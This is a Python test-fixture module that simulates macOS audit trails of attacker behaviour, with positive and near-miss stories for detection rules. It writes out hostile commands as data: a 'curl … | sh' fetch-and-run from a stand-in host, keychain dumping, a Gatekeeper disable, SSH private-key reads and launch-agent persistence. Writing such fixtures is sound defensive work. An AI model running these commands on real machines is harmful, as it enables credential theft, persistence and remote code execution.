"""Fixture trails for the detection rules, written by the project's simulator.

Each scenario is a generator over a :class:`~knox_analytics.testing.simulation.Simulation`
(yielding the milliseconds until it acts again); :func:`write_trail` runs it on a fresh
machine.  ``POSITIVE[title]`` must make the rule titled so fire; ``NEAR_MISS[title]`` is
the same story told so that it must not.

The tests read these stories from the committed trails in ``tests/data/detect/``
(:func:`fixture`), written by ``tools/write_detect_fixtures.py`` (:func:`write_fixtures`);
``test_fixtures.py`` checks that the committed bytes are what the stories write today.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random

from knox_analytics.testing.host import O_CREAT
from knox_analytics.testing.machine import ALICE, MDNS, ROOT, Machine, Proc, User
from knox_analytics.testing.simulation import Simulation

O_WRONLY = 1
START_MS = 1_767_261_600_000  # 2026-01-01T10:00:00Z
Scenario = Callable[[Simulation], Iterator[int]]


def write_trail(path: Path, scenario: Scenario, start_ms: int = START_MS) -> Path:
    """Run ``scenario`` on a new simulated Mac and write its trail to ``path``."""
    rng = Random(7)
    with open(path, "wb") as out:
        m = Machine(out, None, rng, start_ms, ("10.0.0.5",))
        sim = Simulation(m, rng, pace_ms=1000)
        sim.spawn(scenario(sim))
        sim.run()
        m.flush()
    return path


def login_shell(sim: Simulation, user: User = ALICE) -> Proc:
    shell = sim.m.new_proc(None, "zsh", user=user, auid=user.uid, sid=next(sim.m.sids))
    sim.execve(shell, "/bin/zsh", ["-zsh"])
    return shell


def run(sim: Simulation, parent: Proc, path: str, *argv: str) -> Proc:
    """fork + execve of ``path`` under ``parent``, as a shell does."""
    child = sim.start_child(parent)
    sim.execve(child, path, [path.rsplit("/", 1)[-1], *argv])
    return child


def _exec(path: str, *argv: str, user: User = ALICE) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim, user)
        yield 100
        run(sim, shell, path, *argv)
        yield 100
    return scenario


def _app_child(app: str, path: str, *argv: str) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim)
        yield 100
        proc = run(sim, shell, app)
        yield 500
        run(sim, proc, path, *argv)
        yield 100
    return scenario


def _event(event: str, user: User = ROOT) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim, user)
        yield 100
        tool = run(sim, shell, "/usr/sbin/audit", "-s")
        yield 10
        sim.m.emit(tool, event, [], [], sim.ret(tool))
        yield 100
    return scenario


def _logins(failures: int, gap_ms: int = 3000) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        login = sim.m.new_proc(None, "login", user=ALICE, auid=ALICE.uid,
                               sid=next(sim.m.sids), tid=(16777217, "0.0.0.0"))
        for _ in range(failures):
            sim.auth_text(login, "AUE_login", "authentication failed", "EAUTH")
            yield gap_ms
        sim.auth_text(login, "AUE_login", "successful login alice")
        yield 100
    return scenario


def _plist_then_load(delay_ms: int) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim)
        yield 100
        script = run(sim, shell, "/bin/sh", "install.sh")
        yield 50
        sim.open(script, "/Users/alice/Library/LaunchAgents/com.evil.agent.plist",
                 O_WRONLY | O_CREAT)
        yield delay_ms
        run(sim, script, "/bin/launchctl", "load", "-w",
            "/Users/alice/Library/LaunchAgents/com.evil.agent.plist")
        yield 100
    return scenario


def _recon(tools: int) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim)
        yield 100
        script = run(sim, shell, "/bin/sh", "recon.sh")
        for path in ("/usr/bin/whoami", "/usr/bin/id", "/bin/hostname", "/usr/bin/sw_vers",
                     "/sbin/ifconfig", "/usr/bin/groups")[:tools]:
            yield 2000
            run(sim, script, path)
        yield 100
    return scenario


def _script_connect(code: str, address: str) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim)
        yield 100
        py = run(sim, shell, "/usr/bin/python3", "-c", code)
        yield 2000
        fd = sim.socket(py, 2)
        sim.connect(py, fd, address, 443)
        yield 100
    return scenario


def _read(reader: str, path: str) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim)
        yield 100
        proc = run(sim, shell, reader, path)
        yield 10
        sim.open(proc, path, 0)
        yield 100
    return scenario


def _write(writer: str, path: str) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim)
        yield 100
        proc = run(sim, shell, writer, "-c", f"echo x >> {path}")
        yield 10
        sim.open(proc, path, O_WRONLY | O_CREAT)
        yield 100
    return scenario


def _download_exec(run_path: str) -> Scenario:
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim)
        yield 100
        got = "/Users/alice/Downloads/tool"
        curl = run(sim, shell, "/usr/bin/curl", "-so", got, "https://203.0.113.9/tool")
        yield 10
        sim.open(curl, got, O_WRONLY | O_CREAT)
        yield 3000
        chmod = run(sim, shell, "/bin/chmod", "+x", got)
        yield 10
        sim.chmod(chmod, got, 0o755)
        yield 5000
        run(sim, shell, run_path)
        yield 100
    return scenario


def _root_under(parent_path: str, child_path: str) -> Scenario:
    """A user's program whose child execs ``child_path`` as root (an exploit that called
    setuid(0), or sudo)."""
    def scenario(sim: Simulation) -> Iterator[int]:
        shell = login_shell(sim)
        yield 100
        parent = run(sim, shell, parent_path)
        yield 500
        parent.as_user(ROOT)  # setuid(0) (or sudo's own setuid bit)
        parent.ruid = ALICE.uid
        parent.refresh_subject()
        run(sim, parent, child_path, "-c", "id")
        yield 100
    return scenario


POSITIVE: dict[str, Scenario] = {
    "Execution From a Temporary, Hidden or Shared Path": _exec("/tmp/.x/payload"),
    "Shell or Downloader Spawned by a Browser, Office App or Installer": _app_child(
        "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word", "/bin/sh", "-c",
        "curl -s http://203.0.113.9/a | sh"),
    "Keychain or Local Password Hash Access": _exec("/usr/bin/security", "dump-keychain",
                                                    "-d", "login.keychain"),
    "Local Account or Admin Group Change": _exec("/usr/bin/dscl", ".", "-create",
                                                 "/Users/eve", user=ROOT),
    "Audit Subsystem Tampering": _event("AUE_AUDITON_SPOLICY"),
    "Audit Daemon Stopped or Unloaded": _exec("/usr/sbin/audit", "-t", user=ROOT),
    "Brute Force Then Successful Login": _logins(5),
    "Launch Plist Written Then Loaded in One Process Tree": _plist_then_load(5000),
    "Reconnaissance Burst in One Process Tree": _recon(5),
    "Inline Script Then Connection to a Public Address": _script_connect(
        "import socket,subprocess;s=socket.socket()", "203.0.113.9"),
    "Service Account Running a Shell": _exec("/bin/sh", "-c", "id", user=MDNS),
    "Sensitive Credential File Read by an Unexpected Process": _read(
        "/bin/cat", "/Users/alice/.ssh/id_ed25519"),
    "Cron, Login Hook, Periodic or Shell Profile Persistence": _write(
        "/bin/sh", "/Users/alice/.zshrc"),
    "Gatekeeper, Quarantine, SIP or Time Machine Tampering": _exec(
        "/usr/sbin/spctl", "--master-disable", user=ROOT),
    "Download, Chmod, Then Execution of the Same File": _download_exec(
        "/Users/alice/Downloads/tool"),
    "Root Process Under a Non-Root Parent Without Sudo, Su or Login": _root_under(
        "/Users/alice/exploit", "/bin/sh"),
}

NEAR_MISS: dict[str, Scenario] = {
    "Execution From a Temporary, Hidden or Shared Path": _exec("/usr/bin/file",
                                                                "/tmp/.x/payload"),
    "Shell or Downloader Spawned by a Browser, Office App or Installer": _app_child(
        "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", "/bin/sh",
        "-c", "curl -s http://203.0.113.9/a | sh"),
    "Keychain or Local Password Hash Access": _exec("/usr/bin/security", "list-keychains"),
    "Local Account or Admin Group Change": _exec("/usr/bin/dscl", ".", "-read",
                                                 "/Users/eve", user=ROOT),
    "Audit Subsystem Tampering": _event("AUE_AUDITON_GPOLICY"),
    "Audit Daemon Stopped or Unloaded": _exec("/usr/sbin/audit", "-n", user=ROOT),
    "Brute Force Then Successful Login": _logins(4),
    "Launch Plist Written Then Loaded in One Process Tree": _plist_then_load(60_000),
    "Reconnaissance Burst in One Process Tree": _recon(4),
    "Inline Script Then Connection to a Public Address": _script_connect(
        "import socket,subprocess;s=socket.socket()", "10.0.0.8"),
    "Service Account Running a Shell": _exec("/bin/sh", "-c", "id"),
    "Sensitive Credential File Read by an Unexpected Process": _read(
        "/usr/bin/ssh", "/Users/alice/.ssh/id_ed25519"),
    "Cron, Login Hook, Periodic or Shell Profile Persistence": _write(
        "/usr/bin/vim", "/Users/alice/.zshrc"),
    "Gatekeeper, Quarantine, SIP or Time Machine Tampering": _exec("/usr/sbin/spctl",
                                                                   "--status", user=ROOT),
    # the downloaded file is made executable, but another one runs
    "Download, Chmod, Then Execution of the Same File": _download_exec(
        "/Users/alice/Downloads/other-tool"),
    "Root Process Under a Non-Root Parent Without Sudo, Su or Login": _root_under(
        "/usr/bin/sudo", "/bin/sh"),
}


# ---- the committed fixtures: tests/data/detect/<rule file>.bsm and .near-miss.bsm
REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO / "tests" / "data" / "detect"
KNOX_RULES = REPO / "knox_analytics" / "rules" / "knox"
DAY_MS = 86_400_000


def story_rule_files() -> dict[str, str]:
    """The title of each story -> the stem of the knox rule file that holds its rule."""
    out = {}
    for path in sorted(KNOX_RULES.glob("*.yml")):
        titles = re.findall(r"^title:\s*(.+?)\s*$", path.read_text(encoding="utf-8"), re.M)
        for title in (t.strip("'\"") for t in titles):
            if title in POSITIVE:
                out[title] = path.stem
    return out


def fixture(title: str, near_miss: bool = False) -> Path:
    """The committed trail of the story of the rule titled ``title`` (or of its near miss)."""
    stem = story_rule_files()[title]
    return FIXTURES / f"{stem}{'.near-miss' if near_miss else ''}.bsm"


def fixture_plan() -> dict[str, tuple[Scenario, int]]:
    """File name -> (scenario, start time) of every committed trail.  Each trail starts on
    a day of its own (rule files in name order, the positive then its near miss), so no
    two share a process instance when one catalog reads them all."""
    plan: dict[str, tuple[Scenario, int]] = {}
    stems = story_rule_files()
    for n, (stem, title) in enumerate(sorted((s, t) for t, s in stems.items())):
        plan[f"{stem}.bsm"] = (POSITIVE[title], START_MS + 2 * n * DAY_MS)
        plan[f"{stem}.near-miss.bsm"] = (NEAR_MISS[title], START_MS + (2 * n + 1) * DAY_MS)
    return plan


def write_fixtures(directory: Path) -> list[Path]:
    """Write every story's positive trail and its near miss into ``directory``."""
    directory.mkdir(parents=True, exist_ok=True)
    return [write_trail(directory / name, scenario, start)
            for name, (scenario, start) in fixture_plan().items()]
